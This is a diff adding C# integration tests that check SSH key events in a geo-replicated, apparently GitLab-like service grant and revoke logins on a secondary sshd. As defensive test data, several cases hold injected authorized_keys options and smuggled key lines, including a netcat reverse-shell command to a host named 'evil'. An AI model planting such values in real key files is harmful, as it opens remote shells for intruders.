@@ -1,0 +1,273 @@
+using System.Net;
+using System.Text.Json.Nodes;
+using Geo.Events.Contracts;
+using Geo.Events.Core.Keys;
+using Geo.Events.Core.Messaging;
+using Geo.Events.IntegrationTests.Infrastructure;
+using MassTransit;
+
+namespace Geo.Events.IntegrationTests;
+
+/// <summary>
+/// key_create and key_destroy, posted to geo-primary over HTTP, decide who can log in to a real sshd on the
+/// secondary: through the authorized_keys file geo-secondary writes, or through AuthorizedKeysCommand.
+/// </summary>
+[TestClass]
+public sealed class KeysTests
+{
+    private static JsonObject KeyHook(string eventName, long id, string key) => new()
+    {
+        ["event_name"] = eventName,
+        ["created_at"] = "2026-11-25 10:00:00 UTC",
+        ["updated_at"] = "2026-11-25T10:00:00Z",
+        ["username"] = "jsmith",
+        ["user_id"] = 7,
+        ["key"] = key,
+        ["id"] = id,
+    };
+
+    private static async Task<(string Private, string Public)> KeyPairAsync(string folder, string type)
+    {
+        Directory.CreateDirectory(folder);
+        var path = Path.Combine(folder, "id_" + type + Guid.NewGuid().ToString("N")[..6]);
+        await Shell.RunAsync("ssh-keygen", folder, ["-q", "-t", type, .. (type == "rsa" ? new[] { "-b", "3072" } : []), "-N", "", "-C", "jsmith@laptop", "-f", path]);
+        return (path, (await File.ReadAllTextAsync(path + ".pub")).Trim());
+    }
+
+    private static Task WaitForLoginAsync(SshServer sshd, string privateKey, string expectedOutput) =>
+        GeoSite.WaitUntilAsync(async () =>
+        {
+            var (code, output) = await sshd.LoginAsync(privateKey);
+            return code == 0 && output == expectedOutput;
+        }, TimeSpan.FromSeconds(60), () => $"login never printed '{expectedOutput}'\n{sshd.SafeLog()}");
+
+    private static Task WaitForRefusalAsync(SshServer sshd, string privateKey) =>
+        GeoSite.WaitUntilAsync(async () =>
+        {
+            var (code, output) = await sshd.LoginAsync(privateKey);
+            return code == 255 && output.Contains("Permission denied", StringComparison.Ordinal);
+        }, TimeSpan.FromSeconds(60), () => $"the key still logs in\n{sshd.SafeLog()}");
+
+    [TestMethod]
+    public async Task AKeyAddedOnThePrimaryLogsInThroughTheAuthorizedKeysFileAndStopsWhenDestroyed()
+    {
+        await using var sshd = await SshServer.CreateAsync();
+        const string foreignLine = "# kept: a line geo-secondary does not manage";
+        await File.WriteAllTextAsync(sshd.AuthorizedKeysFile, foreignLine + "\n");
+        await using var site = await GeoSite.StartAsync(["tokyo"], secondarySettings: new Dictionary<string, string>
+        {
+            ["Keys:AuthorizedKeysFile"] = sshd.AuthorizedKeysFile,
+            ["Keys:ShellCommand"] = sshd.GitLabShell,
+            ["Keys:SshUser"] = SshServer.User,
+        });
+        await sshd.StartAsync();
+        var ed25519 = await KeyPairAsync(Path.Combine(site.Root, "keys"), "ed25519");
+        var rsa = await KeyPairAsync(Path.Combine(site.Root, "keys"), "rsa");
+
+        Assert.AreEqual(255, (await sshd.LoginAsync(ed25519.Private)).ExitCode, "a key nobody added logged in");
+
+        await site.Hooks.AcceptedAsync(KeyHook("key_create", 101, ed25519.Public));
+        await site.Hooks.AcceptedAsync(KeyHook("key_create", 102, rsa.Public));
+        await WaitForLoginAsync(sshd, ed25519.Private, "gitlab-shell key-101");
+        await WaitForLoginAsync(sshd, rsa.Private, "gitlab-shell key-102");
+
+        await site.Hooks.AcceptedAsync(KeyHook("key_destroy", 101, ed25519.Public));
+        await WaitForRefusalAsync(sshd, ed25519.Private);
+        Assert.AreEqual("gitlab-shell key-102", (await sshd.LoginAsync(rsa.Private)).Output, "destroying one key removed another");
+
+        var lines = await File.ReadAllLinesAsync(sshd.AuthorizedKeysFile);
+        Assert.AreEqual(foreignLine, lines[0], "a line we do not manage was lost");
+        Assert.AreEqual(2, lines.Length);
+        Assert.IsFalse(lines[1].Contains("jsmith@laptop", StringComparison.Ordinal), "the key's comment was copied into authorized_keys");
+    }
+
+    [TestMethod]
+    public async Task AuthorizedKeysCommandAnswersFromTheRegistry()
+    {
+        await using var sshd = await SshServer.CreateAsync();
+        await using var site = await GeoSite.StartAsync(["tokyo"], secondarySettings: new Dictionary<string, string>
+        {
+            ["Keys:ShellCommand"] = sshd.GitLabShell,
+            ["Keys:SshUser"] = SshServer.User,
+        });
+        var dotnet = (await Shell.RunAsync("sh", site.Root, "-c", "command -v dotnet")).Trim();
+        var dll = Path.Combine(TestServers.RepoRoot, "src", "Geo.Events.Secondary", "bin", TestServers.Configuration, "net10.0", "geo-secondary.dll");
+        var command = await sshd.WriteScriptAsync("geo-authorized-keys", $"""
+            export GEO_ConnectionStrings__Postgres='{TestServers.ConnectionString(site.SecondaryDatabase("tokyo"))}'
+            export GEO_Keys__ShellCommand='{sshd.GitLabShell}'
+            export GEO_Keys__SshUser='{SshServer.User}'
+            exec '{dotnet}' '{dll}' authorized-keys "$@"
+            """);
+        await sshd.StartAsync(authorizedKeysCommand: command);
+        var key = await KeyPairAsync(Path.Combine(site.Root, "keys"), "ed25519");
+
+        await site.Hooks.AcceptedAsync(KeyHook("key_create", 201, key.Public));
+        await WaitForLoginAsync(sshd, key.Private, "gitlab-shell key-201");
+
+        await site.Hooks.AcceptedAsync(KeyHook("key_destroy", 201, key.Public));
+        await WaitForRefusalAsync(sshd, key.Private);
+    }
+
+    [TestMethod]
+    public async Task AnOlderEventNeverOverridesANewerOneAndDuplicatesChangeNothing()
+    {
+        await using var site = await GeoSite.StartAsync(["tokyo"], startSecondaries: false);
+        var file = Path.Combine(site.Root, "authorized_keys");
+        site.StartSecondary("tokyo", new Dictionary<string, string> { ["Keys:AuthorizedKeysFile"] = file });
+        var key = SshPublicKey.Parse("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAZeD+GmfQ9mCiWKWQ5r3hI52QskNgxdUHcZdM5kDQk+");
+
+        await using (var bus = await ForgeryBusAsync(site))
+        {
+            // Delivered out of order: destroy (sequence 9) first, then a late create (sequence 5).
+            await bus.Publish(Destroyed(300, 9));
+            await bus.Publish(Created(300, 5, key));
+            // The same create twice, and a live key as a marker that the file was written.
+            await bus.Publish(Created(301, 10, key));
+            await bus.Publish(Created(301, 10, key));
+        }
+
+        await GeoSite.WaitUntilAsync(async () => File.Exists(file) && (await File.ReadAllTextAsync(file)).Contains("key-301", StringComparison.Ordinal)
+            && await site.QueueDepthAsync("geo.secondary.tokyo") == 0, TimeSpan.FromSeconds(60), () => "the events were not applied");
+        await Task.Delay(1000); // one batch window more, for a rewrite that a late event might have asked for
+
+        var lines = await File.ReadAllLinesAsync(file);
+        CollectionAssert.AreEqual(new[] { AuthorizedKeysLine(301, key) }, lines);
+        Assert.IsTrue(await site.QuerySecondaryAsync<bool>("tokyo", "SELECT destroyed FROM ssh_keys WHERE key_id = 300"));
+        Assert.AreEqual(9L, await site.QuerySecondaryAsync<long>("tokyo", "SELECT sequence FROM ssh_keys WHERE key_id = 300"));
+        Assert.AreEqual(0L, await site.QueueDepthAsync("geo.secondary.tokyo_error"));
+    }
+
+    [TestMethod]
+    [DataRow("ssh-ed25519", "AAAAC3NzaC1lZDI1NTE5AAAAIAZeD+GmfQ9mCiWKWQ5r3hI52QskNgxdUHcZdM5kDQk+\ncommand=\"/bin/sh\" ssh-ed25519 AAAA")]
+    [DataRow("command=\"/bin/sh\" ssh-ed25519", "AAAAC3NzaC1lZDI1NTE5AAAAIAZeD+GmfQ9mCiWKWQ5r3hI52QskNgxdUHcZdM5kDQk+")]
+    [DataRow("ssh-rsa", "AAAAC3NzaC1lZDI1NTE5AAAAIAZeD+GmfQ9mCiWKWQ5r3hI52QskNgxdUHcZdM5kDQk+")]
+    public async Task AForgedKeyThatReachesTheSecondaryIsRefusedThere(string type, string blob)
+    {
+        await using var site = await GeoSite.StartAsync(["tokyo"], startSecondaries: false);
+        var file = Path.Combine(site.Root, "authorized_keys");
+        site.StartSecondary("tokyo", new Dictionary<string, string> { ["Keys:AuthorizedKeysFile"] = file });
+
+        await using (var bus = await ForgeryBusAsync(site))
+        {
+            await bus.Publish(new SshKeyCreated
+            {
+                EventId = Guid.NewGuid(),
+                Sequence = 1,
+                OccurredAt = DateTimeOffset.UtcNow,
+                KeyId = 400,
+                Username = "mallory",
+                KeyType = type,
+                KeyBlob = blob,
+                Fingerprint = "SHA256:x",
+            });
+        }
+
+        await GeoSite.WaitUntilAsync(async () => await site.QueueDepthAsync("geo.secondary.tokyo_error") == 1,
+            TimeSpan.FromSeconds(60), () => "the forged key did not land in the error queue");
+        Assert.AreEqual(0L, await site.QuerySecondaryAsync<long>("tokyo", "SELECT count(*) FROM ssh_keys"));
+        var content = File.Exists(file) ? await File.ReadAllTextAsync(file) : "";
+        Assert.IsFalse(content.Contains("key-400", StringComparison.Ordinal) || content.Contains("/bin/sh", StringComparison.Ordinal), content);
+    }
+
+    [TestMethod]
+    public async Task ABurstOfKeyEventsIsWrittenInAFewRewrites()
+    {
+        await using var site = await GeoSite.StartAsync(["tokyo"], startSecondaries: false);
+        var file = Path.Combine(site.Root, "authorized_keys");
+        site.StartSecondary("tokyo", new Dictionary<string, string> { ["Keys:AuthorizedKeysFile"] = file });
+        const int count = 300;
+        var keys = Enumerable.Range(0, count).Select(_ => RandomEd25519()).ToArray();
+
+        await Parallel.ForEachAsync(Enumerable.Range(0, count), new ParallelOptions { MaxDegreeOfParallelism = 8 },
+            async (i, _) => await site.Hooks.AcceptedAsync(KeyHook("key_create", 1000 + i, keys[i])));
+
+        await GeoSite.WaitUntilAsync(async () => File.Exists(file) && (await File.ReadAllLinesAsync(file)).Length == count,
+            TimeSpan.FromSeconds(60), () => "not every key reached authorized_keys");
+        var rewrites = site.Secondary("tokyo").Log().Split('\n').Count(line => line.Contains("Rewrote ", StringComparison.Ordinal));
+        Assert.IsTrue(rewrites <= count / 10, $"{count} key events cost {rewrites} rewrites of authorized_keys");
+    }
+
+    [TestMethod]
+    [DataRow("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAZeD+GmfQ9mCiWKWQ5r3hI52QskNgxdUHcZdM5kDQk+\nssh-ed25519 AAAAC3Nza", "control character")]
+    [DataRow("command=\"nc -e /bin/sh evil 80\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAZeD+GmfQ9mCiWKWQ5r3hI52QskNgxdUHcZdM5kDQk+", "options")]
+    [DataRow("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAZeD+GmfQ9mCiWKWQ5r3hI52QskNgxdUHcZdM5kDQk+\" x", "")]
+    [DataRow("ssh-rsa AAAAC3NzaC1lZDI1NTE5AAAAIAZeD+GmfQ9mCiWKWQ5r3hI52QskNgxdUHcZdM5kDQk+", "body is a 'ssh-ed25519' key")]
+    [DataRow("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAZeD+GmfQ9mCiWK", "truncated")]
+    public async Task BadKeysAreRejectedAtIngest(string key, string reason)
+    {
+        await using var site = await GeoSite.StartAsync(["tokyo"], startSecondaries: false);
+        using var response = await site.Hooks.PostAsync(KeyHook("key_create", 500, key));
+        var body = await response.Content.ReadAsStringAsync();
+        Assert.AreEqual(HttpStatusCode.UnprocessableEntity, response.StatusCode, body);
+        StringAssert.Contains(body, "not an acceptable SSH public key");
+        StringAssert.Contains(body, reason);
+        Assert.AreEqual(0L, await site.EventCountAsync());
+    }
+
+    [TestMethod]
+    public async Task HundredKilobytesOfGarbageIsRejectedAtIngest()
+    {
+        await using var site = await GeoSite.StartAsync(["tokyo"], startSecondaries: false);
+        using var response = await site.Hooks.PostAsync(KeyHook("key_create", 501, "ssh-rsa " + new string('Q', 100 * 1024)));
+        Assert.AreEqual(HttpStatusCode.UnprocessableEntity, response.StatusCode);
+        StringAssert.Contains(await response.Content.ReadAsStringAsync(), "longer than");
+        Assert.AreEqual(0L, await site.EventCountAsync());
+    }
+
+    private static string AuthorizedKeysLine(long id, SshPublicKey key) =>
+        $"command=\"/opt/gitlab/embedded/service/gitlab-shell/bin/gitlab-shell key-{id}\",no-port-forwarding,no-X11-forwarding,no-agent-forwarding,no-pty {key.Type} {key.Base64}";
+
+    private static SshKeyCreated Created(long id, long sequence, SshPublicKey key) => new()
+    {
+        EventId = Guid.NewGuid(),
+        Sequence = sequence,
+        OccurredAt = DateTimeOffset.UtcNow,
+        KeyId = id,
+        Username = "jsmith",
+        KeyType = key.Type,
+        KeyBlob = key.Base64,
+        Fingerprint = key.Fingerprint,
+    };
+
+    private static SshKeyDestroyed Destroyed(long id, long sequence) => new()
+    {
+        EventId = Guid.NewGuid(),
+        Sequence = sequence,
+        OccurredAt = DateTimeOffset.UtcNow,
+        KeyId = id,
+        Username = "jsmith",
+    };
+
+    /// <summary>A valid ed25519 public key with random bytes: cheap, and distinct per key.</summary>
+    private static string RandomEd25519()
+    {
+        var blob = new byte[4 + 11 + 4 + 32];
+        blob[3] = 11;
+        "ssh-ed25519"u8.CopyTo(blob.AsSpan(4));
+        blob[18] = 32;
+        Random.Shared.NextBytes(blob.AsSpan(19));
+        return "ssh-ed25519 " + Convert.ToBase64String(blob);
+    }
+
+    /// <summary>A MassTransit bus on the site's vhost that publishes straight to the event exchanges, skipping geo-primary.</summary>
+    private static async Task<BusHandle> ForgeryBusAsync(GeoSite site)
+    {
+        var bus = Bus.Factory.CreateUsingRabbitMq(cfg => cfg.ConfigureHost(new RabbitMqOptions
+        {
+            Host = TestServers.RabbitHost,
+            Port = (ushort)TestServers.RabbitPort,
+            VirtualHost = site.VirtualHost,
+            Username = TestServers.RabbitUser,
+            Password = TestServers.RabbitPassword,
+        }));
+        await bus.StartAsync();
+        return new BusHandle(bus);
+    }
+
+    private sealed class BusHandle(IBusControl bus) : IAsyncDisposable
+    {
+        public Task Publish<T>(T message) where T : class => bus.Publish(message);
+
+        public async ValueTask DisposeAsync() => await bus.StopAsync();
+    }
+}
